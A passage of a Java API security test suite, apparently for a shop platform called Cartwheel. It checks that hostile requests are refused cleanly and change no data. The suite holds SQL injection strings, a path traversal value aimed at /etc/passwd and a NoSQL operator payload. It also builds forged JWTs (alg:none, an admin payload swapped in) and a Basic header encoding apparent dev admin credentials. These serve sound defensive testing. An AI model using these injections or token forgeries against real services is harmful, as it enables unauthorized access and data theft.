          // a search for hostile text is a fine search: it must find only what contains that text,
          // literally
          cases.add(mayBeServed(op, caller, mutation, request, literalSearch(text)));
        } else {
          // 1.0, +1, 01: lenient spellings of a valid number; read as that number or refused, never
          // a 500
          cases.add(mayBeServed(op, caller, mutation, request, servedOrInvalid(name)));
        }
      }
    }
    return cases.stream();
  }

  private static List<Value> queryValues(JsonObject schema) {
    List<Value> values = new ArrayList<>();
    if (hasType(schema, "integer") || hasType(schema, "number")) {
      for (String text :
          List.of(
              "abc",
              "1.5",
              "true",
              "0x10",
              "[1]",
              "{}",
              "1e308",
              "9223372036854775808",
              "-9223372036854775809",
              "1 OR 1=1",
              "-1")) {
        values.add(Value.of(text, text));
      }
      numberBound(schema, "minimum")
          .ifPresent(
              min -> values.add(Value.of("minimum - 1", min.subtract(BigInteger.ONE).toString())));
      numberBound(schema, "maximum")
          .ifPresent(
              max -> values.add(Value.of("maximum + 1", max.add(BigInteger.ONE).toString())));
      for (String lenient : List.of("1.0", "+1", "01")) {
        values.add(Value.of(lenient, lenient));
      }
    }
    if (hasType(schema, "string")) {
      Optional.ofNullable(schema.getInteger("maxLength"))
          .ifPresent(max -> values.add(Value.of("maxLength + 1 characters", "q".repeat(max + 1))));
      SQL_INJECTIONS.forEach(text -> values.add(Value.of("SQL injection " + text, text)));
      for (String wildcard : List.of("%", "_", "\\", "%' OR '1'='1", "[a-z]*")) {
        values.add(Value.of("wildcard " + wildcard, wildcard));
      }
      // a lone surrogate has no UTF-8 form, so it cannot be put in a URL
      UNICODE.entrySet().stream()
          .filter(entry -> entry.getValue().codePoints().noneMatch(c -> c >= 0xD800 && c <= 0xDFFF))
          .forEach(entry -> values.add(Value.of(entry.getKey(), entry.getValue())));
    }
    return values;
  }

  private static Stream<Case> headerCases(ApiOperation op, Caller caller) {
    Expectation refusal = baselineOf(op).refusalFor(caller);
    List<Case> cases = new ArrayList<>();
    for (JsonObject parameter : op.parameters("header")) {
      String name = parameter.getString("name");
      JsonObject schema = op.resolve(parameter.getJsonObject("schema"));
      Request base = baselineRequest(op, caller);
      if (parameter.getBoolean("required", false)) {
        cases.add(
            caseOf(
                op,
                caller,
                "header " + name + " missing",
                base.withHeader(name, null),
                parameterInvalid(name)));
      }
      List<String> hostile = new ArrayList<>(SQL_INJECTIONS);
      hostile.addAll(
          List.of(
              "k".repeat(129), "../../etc/passwd", "key with spaces", "{\"$ne\":null}", "ключ"));
      for (String text : hostile) {
        String mutation = "header " + name + " = " + abbreviate(text, 40);
        if (surelyInvalid(schema, text)) {
          cases.add(
              caseOf(op, caller, mutation, base.withHeader(name, text), parameterInvalid(name)));
        } else if (refusal != null) {
          cases.add(caseOf(op, caller, mutation, base.withHeader(name, text), refusal));
        }
      }
    }
    return cases.stream();
  }

  // --- tokens
  // ---------------------------------------------------------------------------------------------------------

  /** Secured operations with every kind of bad token; the rest of the request is the baseline (valid as far as it goes). */
  private static Stream<Case> authCases(ApiOperation op) {
    if (!op.secured()) {
      return Stream.empty();
    }
    JsonObject claims =
        new JsonObject()
            .put("sub", customer.userId())
            .put("roles", new JsonArray().add("customer"));
    Expectation unauthorized = problem(401, "UNAUTHORIZED");
    Caller none = new Caller("nobody", null, false);
    Request base = baselineRequest(op, none);
    Map<String, String> refusedTokens = new LinkedHashMap<>();
    refusedTokens.put("a garbage token", "not.a.token");
    refusedTokens.put(
        "random bytes",
        Base64.getUrlEncoder()
            .encodeToString(UUID.randomUUID().toString().getBytes(StandardCharsets.UTF_8)));
    refusedTokens.put(
        "an expired token signed with the dev key",
        sign(
            claims.copy().put("exp", Instant.now().minusSeconds(60).getEpochSecond()),
            "cartwheel"));
    refusedTokens.put("a token signed by another EC key", signWithAnotherKey(claims.copy()));
    refusedTokens.put("an alg:none token", unsigned(claims.copy().put("iss", "cartwheel")));
    refusedTokens.put("a token with a wrong issuer", sign(claims.copy(), "someone-else"));
    refusedTokens.put("the customer's token with a character appended", customer.token() + "x");
    refusedTokens.put("the customer's token with a fourth part", customer.token() + ".e30");
    refusedTokens.put(
        "the customer's token with its signature cut off",
        customer.token().substring(0, customer.token().lastIndexOf('.') + 1));
    refusedTokens.put(
        "the customer's token with an admin payload swapped in",
        swapPayload(
            customer.token(),
            claims
                .copy()
                .put("roles", new JsonArray().add("admin"))
                .put("iss", "cartwheel")
                .put("exp", Instant.now().plusSeconds(600).getEpochSecond())));

    List<Case> cases = new ArrayList<>();
    cases.add(caseOf(op, none, "no token", base, unauthorized));
    cases.add(
        caseOf(
            op,
            none,
            "Basic credentials",
            base.withHeader(
                "Authorization", "Basic YWRtaW5AY2FydHdoZWVsLmRldjpjYXJ0d2hlZWwtZGV2LWFkbWlu"),
            unauthorized));
    cases.add(
        caseOf(
            op,
            none,
            "an empty bearer token",
            base.withHeader("Authorization", "Bearer "),
            unauthorized));
    refusedTokens.forEach(
        (label, token) ->
            cases.add(
                caseOf(
                    op,
                    none,
                    label,
                    base.withHeader("Authorization", "Bearer " + token),
                    unauthorized)));
    // signed with the dev key, so authentic: refused by role (403) or by subject (401); never a 500
    cases.add(
        caseOf(
            op,
            none,
            "a token whose subject is not a user id",
            base.withHeader(
                "Authorization",
                "Bearer " + sign(claims.copy().put("sub", "' OR 1=1 --"), "cartwheel")),
            refused()));
    // authentic too, for a user who does not exist: it may read its own (empty) lists, it must see
    // nothing of anyone's
    cases.add(
        mayBeServed(
            op,
            none,
            "a token of a user who does not exist",
            base.withHeader(
                "Authorization",
                "Bearer "
                    + sign(claims.copy().put("sub", UUID.randomUUID().toString()), "cartwheel")),
            refusedOrNothingToSee()));
    return cases.stream();
  }

  private static String sign(JsonObject claims, String issuer) {
    return devKeys.generateToken(claims, new JWTOptions().setAlgorithm("ES256").setIssuer(issuer));
  }

  private static String signWithAnotherKey(JsonObject claims) {
    try {
      KeyPairGenerator generator = KeyPairGenerator.getInstance("EC");
      generator.initialize(new ECGenParameterSpec("secp256r1"));
      String pem =
          "-----BEGIN PRIVATE KEY-----\n"
              + Base64.getMimeEncoder()
                  .encodeToString(generator.generateKeyPair().getPrivate().getEncoded())
              + "\n-----END PRIVATE KEY-----\n";
      JWTAuth other =
          JWTAuth.create(
              signing,
              new JWTAuthOptions()
                  .addPubSecKey(
                      new PubSecKeyOptions()
                          .setAlgorithm("ES256")
                          .setBuffer(pem)
                          .setId("cartwheel-1")));
      return other.generateToken(
          claims, new JWTOptions().setAlgorithm("ES256").setIssuer("cartwheel"));
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  private static String unsigned(JsonObject claims) {
    return base64Url("{\"alg\":\"none\",\"typ\":\"JWT\"}") + "." + base64Url(claims.encode()) + ".";
  }

  private static String swapPayload(String token, JsonObject claims) {
    String[] parts = token.split("\\.");
    return parts[0] + "." + base64Url(claims.encode()) + "." + parts[2];
  }

  private static String base64Url(String text) {
    return Base64.getUrlEncoder()
        .withoutPadding()
        .encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  // ---------------------------------------------------------------------------------------------------------------
  // Expectations
  // ---------------------------------------------------------------------------------------------------------------

  /** What a case must get back; throws an AssertionError saying what differs. */
  @FunctionalInterface
  interface Expectation {
    void check(HttpResponse<Buffer> response);
  }

  static Expectation problem(int status, String code) {
    return response -> Problems.assertProblem(response, status, code);
  }

  /** VALIDATION_FAILED naming the field, or something inside the value given for it (lines/0 for a bad lines). */
  static Expectation invalid(String field) {
    return response ->
        assertThat(fieldsOf(Problems.assertProblem(response, 400, "VALIDATION_FAILED")))
            .as("fields named")
            .anyMatch(named -> isOrIsIn(named, field));
  }

  private static boolean isOrIsIn(String named, String field) {
    return named.equals(field) || named.startsWith(field + "/");
  }

  /** VALIDATION_FAILED for a parameter; the validator cannot always say which one (a value that does not even parse). */
  static Expectation parameterInvalid(String name) {
    return response -> {
      JsonObject problem = Problems.assertProblem(response, 400, "VALIDATION_FAILED");
      if (problem.containsKey("errors")) {
        assertThat(fieldsOf(problem)).as("fields named").contains(name);
      }
    };
  }

  /** Refused naming the field (schema or domain rule), or else as the baseline is. */
  static Expectation invalidOr(String field, Expectation baseline) {
    return response -> {
      if (namesField(response, field)) {
        invalid(field).check(response);
      } else {
        baseline.check(response);
      }
    };
  }

  /** Any refusal, as long as it is a proper problem: 4xx, problem+json, a code, nothing internal. */
  static Expectation refused() {
    return response -> {
      assertThat(response.statusCode()).as("status").isBetween(400, 499);
      assertThat(response.getHeader("Content-Type"))
          .as("content type")
          .isEqualTo("application/problem+json");
      JsonObject problem = response.bodyAsJsonObject();
      assertThat(problem.getString("code")).as("code").isNotBlank();
      assertThat(problem.getInteger("status"))
          .as("status in the problem")
          .isEqualTo(response.statusCode());
      assertNothingInternal(response);
    };
  }

  /** A served search finds only products that contain the text literally (an unescaped LIKE or an injection would find more). */
  static Expectation literalSearch(String text) {
    return response -> {
      if (response.statusCode() == 400) {
        parameterInvalid("q").check(response);
        return;
      }
      assertThat(response.statusCode()).as("status").isEqualTo(200);
      JsonObject page = response.bodyAsJsonObject();
      assertThat(
              page.getJsonArray("items").stream()
                  .map(JsonObject.class::cast)
                  .map(
                      item ->
                          (item.getString("sku")
                                  + "\n"
                                  + item.getString("name")
                                  + "\n"
                                  + item.getString("description"))
                              .toLowerCase(Locale.ROOT)))
          .as("products found for %s", text)
          .allMatch(found -> found.contains(text.toLowerCase(Locale.ROOT)));
      assertThat(page.getLong("total")).as("total").isEqualTo(page.getJsonArray("items").size());
    };
  }

  static Expectation servedOrInvalid(String name) {
    return response -> {
      if (response.statusCode() == 400) {
        parameterInvalid(name).check(response);
        return;
      }
      assertThat(response.statusCode()).as("status").isEqualTo(200);
      assertThat(response.getHeader("Content-Type")).startsWith("application/json");
      assertNothingInternal(response);
    };
  }

  /** Refused, or served with nothing of anyone's in it: no record, an empty page. */
  static Expectation refusedOrNothingToSee() {
    return response -> {
      if (response.statusCode() >= 400) {
        refused().check(response);
        return;
      }
      assertThat(response.statusCode()).as("status").isBetween(200, 299);
      JsonObject body = response.bodyAsJsonObject();
      assertThat(body.fieldNames())
          .as("fields of what was served")
          .doesNotContain("id", "userId", "email", "user");
      if (body.containsKey("items")) {
        assertThat(body.getJsonArray("items")).as("items served").isEmpty();
      }
    };
  }

  private static void assertNothingInternal(HttpResponse<Buffer> response) {
    assertThat(response.bodyAsString())
        .doesNotContain("Exception")
        .doesNotContain("dev.cartwheel")
        .doesNotContain("\tat ");
  }

  private static boolean namesField(HttpResponse<Buffer> response, String field) {
    try {
      return response.statusCode() == 400
          && fieldsOf(response.bodyAsJsonObject()).stream()
              .anyMatch(named -> isOrIsIn(named, field));
    } catch (RuntimeException notAProblem) {
      return false;
    }
  }

  private static List<String> fieldsOf(JsonObject problem) {
    return problem.getJsonArray("errors", new JsonArray()).stream()
        .map(JsonObject.class::cast)
        .map(error -> error.getString("field"))
        .toList();
  }

  // ---------------------------------------------------------------------------------------------------------------
  // Running a case
  // ---------------------------------------------------------------------------------------------------------------

  /** A case that did not get what it should: what it got, and what the expectation said. */
  record Failure(Case c, int status, String code, String answer, String why) {

    /** The mutation and the answer, without the operation: "query page = 1.0 → 500 INTERNAL_ERROR". */
    String group() {
      return c.mutation() + " → " + (status < 0 ? "no answer" : status + " " + code);
    }

    @Override
    public String toString() {
      return "  " + c + "\n      → " + answer + "\n      ✗ " + why;
    }
  }

  /** Sends the case; a failure if the answer is not what it should be. */
  private static Optional<Failure> run(Case c, AtomicInteger served) {
    HttpResponse<Buffer> response;
    try {
      response = send(c.request());
    } catch (RuntimeException e) {
      return Optional.of(new Failure(c, -1, "-", "no answer", String.valueOf(e)));
    }
    try {
      c.expect().check(response);
      if (response.statusCode() < 400) {
        assertThat(c.mayBeServed())
            .as("a %d for a case that must be refused", response.statusCode())
            .isTrue();
        served.incrementAndGet();
      }
      return Optional.empty();
    } catch (AssertionError | RuntimeException e) {
      String body = String.valueOf(response.bodyAsString());
      return Optional.of(
          new Failure(
              c,
              response.statusCode(),
              codeIn(body),
              response.statusCode()
                  + " "
                  + response.getHeader("Content-Type")
                  + " "
                  + abbreviate(body, 400),
              abbreviate(String.valueOf(e.getMessage()).strip().replaceAll("\\s+", " "), 300)));
    }
  }

  private static String codeIn(String body) {
    try {
      return new JsonObject(body).getString("code", "(no code)");
    } catch (RuntimeException notJson) {
      return "(not a problem)";
    }
  }

  private static HttpResponse<Buffer> send(Request request) {
    HttpRequest<Buffer> http = node.http.request(request.method(), request.path());
    request.headers().forEach(http::putHeader);
    return (request.body() == null ? http.send() : http.sendBuffer(request.body())).await();
  }

  // ---------------------------------------------------------------------------------------------------------------
  // Nothing written: every table of the domains' schemas, rows and content
  // ---------------------------------------------------------------------------------------------------------------

  /**
   * Row count and a digest of the content of every table, once the platform is quiet: every outbox row
   * relayed (to the bus and to Kafka) and two looks in a row that agree. The outbox clean-up deletes only
   * rows relayed more than outbox.retentionHours (24) ago, so it cannot change the counts during a run.
   */
  private static Map<String, String> settledTables() {
    AtomicReference<Map<String, String>> last = new AtomicReference<>(Map.of());
    await()
        .atMost(Duration.ofSeconds(30))
        .pollInterval(Duration.ofMillis(250))
        .until(
            () -> {
              Map<String, String> now = tableStates();
              return outboxesRelayed() && now.equals(last.getAndSet(now));
            });
    return last.get();
  }

  private static List<String> tables() {
    return TestServices.queryColumn(
        "SELECT table_schema || '.' || table_name FROM information_schema.tables WHERE table_type = 'BASE TABLE'"
            + " AND table_schema IN ("
            + SCHEMAS.stream().map(schema -> "'" + schema + "'").collect(Collectors.joining(", "))
            + ") ORDER BY 1");
  }

  private static Map<String, String> tableStates() {
    Map<String, String> states = new TreeMap<>();
    for (String table : tables()) {
      states.put(
          table,
          TestServices.queryOne(
              "SELECT count(*) || ' rows, content ' || coalesce(md5(string_agg(t::text, '|' ORDER BY t::text)), '-')"
                  + " FROM "
                  + table
                  + " t"));
    }
    return states;
  }

  private static boolean outboxesRelayed() {
    return tables().stream()
        .filter(table -> table.endsWith(".outbox"))
        .allMatch(
            outbox ->
                "0"
                    .equals(
                        TestServices.queryOne(
                            "SELECT count(*) FROM "
                                + outbox
                                + " WHERE published_at IS NULL OR kafka_sent_at IS NULL")));
  }

  private static List<String> changes(Map<String, String> before, Map<String, String> after) {
    Set<String> tables = new TreeSet<>(before.keySet());
    tables.addAll(after.keySet());
    return tables.stream()
        .filter(
            table -> !String.valueOf(before.get(table)).equals(String.valueOf(after.get(table))))
        .map(table -> table + ": " + before.get(table) + " → " + after.get(table))
        .toList();
  }

  private static Optional<String> firstNotificationOf(Shopper shopper) {
    JsonArray items =
        node.http
            .get("/api/v1/notifications")
            .bearerTokenAuthentication(shopper.token())
            .send()
            .await()
            .bodyAsJsonObject()
            .getJsonArray("items");
    return items.isEmpty() ? Optional.empty() : Optional.of(items.getJsonObject(0).getString("id"));
  }

  // ---------------------------------------------------------------------------------------------------------------
  // JSON schema and JSON text helpers
  // ---------------------------------------------------------------------------------------------------------------

  /** True when the schema surely refuses the value; false when it may accept it. */
  static boolean surelyInvalid(JsonObject schema, Object value) {
    if (!typeMatches(schema, value)) {
      return true;
    }
    JsonArray allowed = schema.getJsonArray("enum");
    if (allowed != null && !allowed.contains(value)) {
      return true;
    }
    if (value instanceof String text) {
      int length = text.codePointCount(0, text.length());
      String pattern = schema.getString("pattern");
      String format = schema.getString("format");
      return length < schema.getInteger("minLength", 0)
          || length > schema.getInteger("maxLength", Integer.MAX_VALUE)
          || (pattern != null && !Pattern.compile(pattern).matcher(text).find())
          || ("uuid".equals(format) && !UUID_TEXT.matcher(text).matches())
          || ("email".equals(format) && !text.contains("@"));
    }
    if (value instanceof Number number) {
      BigDecimal decimal = new BigDecimal(number.toString());
      return numberBound(schema, "minimum")
              .map(min -> decimal.compareTo(new BigDecimal(min)) < 0)
              .orElse(false)
          || numberBound(schema, "maximum")
              .map(max -> decimal.compareTo(new BigDecimal(max)) > 0)
              .orElse(false);
    }
    if (value instanceof JsonArray items) {
      return items.size() < schema.getInteger("minItems", 0)
          || items.size() > schema.getInteger("maxItems", Integer.MAX_VALUE);
    }
    return false;
  }

  static boolean typeMatches(JsonObject schema, Object value) {
    Object type = schema.getValue("type");
    if (type == null) {
      return true;
    }
    List<?> types = type instanceof JsonArray array ? array.getList() : List.of(type);
    return types.stream()
        .anyMatch(
            t ->
                switch ((String) t) {
                  case "string" -> value instanceof String;
                  case "integer" -> isIntegral(value);
                  case "number" -> value instanceof Number;
                  case "boolean" -> value instanceof Boolean;
                  case "array" -> value instanceof JsonArray;
                  case "object" -> value instanceof JsonObject;
                  case "null" -> value == null;
                  default -> true;
                });
  }

  static boolean hasType(JsonObject schema, String type) {
    Object declared = schema.getValue("type");
    return type.equals(declared) || (declared instanceof JsonArray types && types.contains(type));
  }

  private static boolean isIntegral(Object value) {
    if (value instanceof Integer || value instanceof Long || value instanceof BigInteger) {
      return true;
    }
    return value instanceof Double d && Double.isFinite(d) && d == Math.rint(d);
  }

  private static Optional<BigInteger> numberBound(JsonObject schema, String keyword) {
    return Optional.ofNullable(schema.getValue(keyword))
        .map(bound -> new BigDecimal(bound.toString()).toBigInteger());
  }

  /** A query parameter as the schema would read it: a number where it is one, else the text. */
  private static Object parseQueryValue(JsonObject schema, String text) {
    if (!hasType(schema, "integer") && !hasType(schema, "number")) {
      return text;
    }
    try {
      BigDecimal number = new BigDecimal(text);
      return number.stripTrailingZeros().scale() <= 0
          ? number.toBigIntegerExact()
          : number.doubleValue();
    } catch (NumberFormatException | ArithmeticException e) {
      return text;
    }
  }

  /** A JSON string literal with everything outside printable ASCII escaped: lone surrogates too, which a JSON encoder refuses. */
  static String jsonString(String value) {
    StringBuilder json = new StringBuilder(value.length() + 2).append('"');
    for (char c : value.toCharArray()) {
      if (c == '"' || c == '\\') {
        json.append('\\').append(c);
      } else if (c < 0x20 || c > 0x7e) {
        json.append(String.format("\\u%04x", (int) c));
      } else {
        json.append(c);
      }
    }
    return json.append('"').toString();
  }

  private static String encode(String pathSegment) {
    return URLEncoder.encode(pathSegment, StandardCharsets.UTF_8).replace("+", "%20");
  }

  /** The baseline body with the value at path replaced by raw JSON text. */
  private static String bodyWith(JsonObject base, List<String> path, String rawJson) {
    JsonObject body = base.copy();
    set(body, path, MARKER);
    return body.encode().replace("\"" + MARKER + "\"", rawJson);
  }

  /** The baseline body with the property at path given twice: first, then (at the end of its object) last. */
  private static String bodyWithDuplicate(
      JsonObject base, List<String> path, String first, String last) {
    JsonObject body = base.copy();
    set(body, path, MARKER);
    set(body, append(path.subList(0, path.size() - 1), DUPLICATE), MARKER + "last");
    return body.encode()
        .replace("\"" + MARKER + "\"", first)
        .replace(
            "\"" + DUPLICATE + "\":\"" + MARKER + "last\"",
            jsonString(path.get(path.size() - 1)) + ":" + last);
  }

  private static Object valueAt(Object root, List<String> path) {
    Object node = root;
    for (String segment : path) {
      node =
          node instanceof JsonObject object
              ? object.getValue(segment)
              : ((JsonArray) node).getValue(Integer.parseInt(segment));
    }
    return node;
  }

  private static void set(JsonObject root, List<String> path, Object value) {
    Object parent = valueAt(root, path.subList(0, path.size() - 1));
    String last = path.get(path.size() - 1);
    if (parent instanceof JsonObject object) {
      object.put(last, value);
    } else {
      ((JsonArray) parent).set(Integer.parseInt(last), value);
    }
  }

  private static void remove(JsonObject root, List<String> path) {
    Object parent = valueAt(root, path.subList(0, path.size() - 1));
    ((JsonObject) parent).remove(path.get(path.size() - 1));
  }

  private static List<String> append(List<String> path, String segment) {
    List<String> longer = new ArrayList<>(path);
    longer.add(segment);
    return List.copyOf(longer);
  }

  private static String abbreviate(String text, int max) {
    return text.length() <= max ? text : text.substring(0, max) + "…(" + text.length() + " chars)";
  }

  // ---------------------------------------------------------------------------------------------------------------
  // The published documents
  // ---------------------------------------------------------------------------------------------------------------

  /** One operation of a published OpenAPI document (GET /api lists the versions and their documents). */
  record ApiOperation(
      String version,
      String prefix,
      String method,
      String template,
      JsonObject spec,
      JsonObject pathItem,
      JsonObject document) {

    static List<ApiOperation> published(RunningPlatform node) {
      HttpResponse<Buffer> index = node.http.get("/api").send().await();
      assertThat(index.statusCode()).as("GET /api").isEqualTo(200);
      List<ApiOperation> operations = new ArrayList<>();
      for (Object listed : index.bodyAsJsonObject().getJsonArray("versions")) {
        JsonObject version = (JsonObject) listed;
        HttpResponse<Buffer> published = node.http.get(version.getString("openapi")).send().await();
        assertThat(published.statusCode())
            .as("GET %s", version.getString("openapi"))
            .isEqualTo(200);
        JsonObject document = published.bodyAsJsonObject();
        document
            .getJsonObject("paths")
            .forEach(
                path ->
                    ((JsonObject) path.getValue())
                        .forEach(
                            entry -> {
                              if (HTTP_METHODS.contains(entry.getKey())) {
                                operations.add(
                                    new ApiOperation(
                                        version.getString("version"),
                                        version.getString("path"),
                                        entry.getKey().toUpperCase(Locale.ROOT),
                                        path.getKey(),
                                        (JsonObject) entry.getValue(),
                                        (JsonObject) path.getValue(),
                                        document));
                              }
                            }));
      }
      assertThat(operations).extracting(ApiOperation::key).doesNotHaveDuplicates();
      return operations;
    }

    String id() {
      return spec.getString("operationId");
    }

    /** v1 createProduct */
    String key() {
      return version + " " + id();
    }

    boolean secured() {
      JsonArray security =
          spec.getJsonArray("security", document.getJsonArray("security", new JsonArray()));
      return security.stream()
          .map(JsonObject.class::cast)
          .anyMatch(requirement -> requirement.containsKey("bearerAuth"));
    }

    /** x-cartwheel-roles names admin and not customer. */
    boolean adminOnly() {
      JsonArray roles = spec.getJsonArray("x-cartwheel-roles", new JsonArray());
      return roles.contains("admin") && !roles.contains("customer");
    }

    boolean ownerOnly() {
      return spec.getBoolean("x-cartwheel-owner-only", false);
    }

    List<JsonObject> parameters(String in) {
      return Stream.concat(
              pathItem.getJsonArray("parameters", new JsonArray()).stream(),
              spec.getJsonArray("parameters", new JsonArray()).stream())
          .map(parameter -> resolve((JsonObject) parameter))
          .filter(parameter -> in.equals(parameter.getString("in")))
          .toList();
    }

    Optional<JsonObject> bodySchema() {
      return Optional.ofNullable(spec.getJsonObject("requestBody"))
          .map(this::resolve)
          .map(
              body ->
                  body.getJsonObject("content", new JsonObject()).getJsonObject("application/json"))
          .map(json -> resolve(json.getJsonObject("schema")));
    }

    boolean bodyRequired() {
      return Optional.ofNullable(spec.getJsonObject("requestBody"))
          .map(this::resolve)
          .map(body -> body.getBoolean("required", false))
          .orElse(false);
    }

    /** The path with its parameters filled in (values already encoded). */
    String url(Map<String, String> pathValues) {
      String path = template;
      for (Map.Entry<String, String> value : pathValues.entrySet()) {
        path = path.replace("{" + value.getKey() + "}", value.getValue());
      }
      return prefix + path;
    }

    /** Follows local $refs (#/components/...). */
    JsonObject resolve(JsonObject node) {
      JsonObject resolved = node;
      while (resolved.containsKey("$ref")) {
        String ref = resolved.getString("$ref");
        assertThat(ref).as("only local references").startsWith("#/");
        Object target = document;
        for (String segment : ref.substring(2).split("/")) {
          target = ((JsonObject) target).getValue(segment.replace("~1", "/").replace("~0", "~"));
        }
        resolved = (JsonObject) target;
      }
      return resolved;
    }

    @Override
    public String toString() {
      return version + " " + method + " " + template + " (" + id() + ")";
    }
  }
}
